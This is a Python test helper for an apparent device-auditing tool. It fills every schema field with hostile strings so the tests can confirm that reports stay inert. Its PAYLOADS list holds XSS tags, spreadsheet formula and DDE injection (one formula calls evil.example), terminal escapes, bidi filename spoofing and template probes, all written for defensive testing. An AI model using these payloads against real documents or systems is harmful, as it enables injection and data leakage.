"""Records that hold hostile text wherever the schema allows text: for tests that reports stay inert."""

from collections.abc import Mapping
from re import search
from typing import Any

from auditor.record.schema import card_schema
from auditor.report.writer import Run
from auditor.scoring.assessment import CardAssessment
from tests.report.sample import SECRET, assess_cards

PAYLOADS = {
    "markup": "<script>alert(1)</script><img src=x onerror=alert(1)>&lt;b&amp;",
    "formula": '=HYPERLINK("https://evil.example/"&A1,"x")',
    "minus": "-1+cmd|' /C calc'!A0",
    "blank before a formula": "\t\r\n =1+1",
    "wide formula": "\uff1d1+1",
    "controls": "a\x00b\x07c\x1b[31md\x1b]0;title\x07e\x7ff\x9b31mg",
    "lines": "one\r\ntwo\nthree\u2028four\u2029five\x85six",
    "direction": "abc\u202egnp.exe\u202c \u2066x\u2069 \u200f\u200e\u061c",
    "hidden": "zero\u200bwidth\ufeff\u00ad\U000e0041\ufffe",
    "table": "a|b\\|c`d``e\\",
    "markdown": "**x** [a](javascript:1) ![i](https://evil.example/i.png) <https://evil.example> # ~~s~~",
    "mentions": "@all #1 www.evil.example https://evil.example mail@evil.example",
    "quotes": '"a",\'b\';""',
    "template": "{{ 7*7 }}{% raw %}${7*7}</textarea>]]>--><!--",
    "wide letters": "電源装置" * 20,
    "marks": "e\u0301\u0323" * 30,
    "right to left": "مزود الطاقة غير المنقطعة",
    "long": "x" * 70000,
}

# Members whose text has a form of its own: a value that has it.
_FORMED = {
    "^[A-Za-z0-9][A-Za-z0-9._:@-]*$": "hostile@card:1",
    "^sha256:[0-9a-f]{64}$": "sha256:" + "0" * 64,
    "^[A-Za-z0-9_+/-]+$": "Etc/UTC",
}
_FORMS = (
    "2026-11-20", "2026-11-20T09:30:00+00:00", "192.0.2.1", "192.0.2.0/24", "02:00:5e:10:00:01", "03:30",
    "8000000001", "card.example.net", "power@example.org", "1.3.6.1", "-----BEGIN CERTIFICATE-----",
    "SHA256:" + "A" * 43, "ab" * 32,
)  # fmt: skip


def hostile_card(text: str) -> dict[str, Any]:
    """Return a record with every member that the schema has, ``text`` wherever it may stand."""
    record: dict[str, Any] = _filled(card_schema(), text)
    record["access_policy"]["session_timeout_s"] = 86400
    record["snmp"]["communities"][0].update({"enabled": True, "access": "write"})
    record["accounts"][0].update({"enabled": True, "is_shared": True})
    return record


def assess_hostile(run: Run, text: str) -> list[CardAssessment]:
    """Judge a record of hostile text, and a second one, so that there is an estate."""
    second = hostile_card(text)
    second["card"]["id"] = "second"
    return assess_cards(run, [hostile_card(text), second])


def _filled(node: Mapping[str, Any], text: str) -> Any:
    if "$ref" in node:
        return _filled(card_schema()["$defs"][node["$ref"].removeprefix("#/$defs/")], text)
    if "oneOf" in node:
        return _filled(node["oneOf"][0], text)
    if "const" in node:
        return node["const"]
    if "enum" in node:
        return node["enum"][0]
    return _MAKERS[node["type"]](node, text)


def _object(node: Mapping[str, Any], text: str) -> dict[str, Any]:
    return {
        name: SECRET if name == "clear" else _filled(member, text)
        for name, member in node["properties"].items()
    }


def _array(node: Mapping[str, Any], text: str) -> list[Any]:
    return [_filled(node["items"], text)]


def _number(node: Mapping[str, Any], _: str) -> Any:
    return max(node.get("minimum", 0), 2)


def _text(node: Mapping[str, Any], text: str) -> str:
    if "pattern" not in node:
        return text[: node.get("maxLength", len(text))]
    return next(form for form in (*_FORMED.values(), *_FORMS) if search(node["pattern"], form))


def _boolean(_: Mapping[str, Any], __: str) -> bool:
    return True


_MAKERS = {
    "object": _object,
    "array": _array,
    "integer": _number,
    "number": _number,
    "string": _text,
    "boolean": _boolean,
}
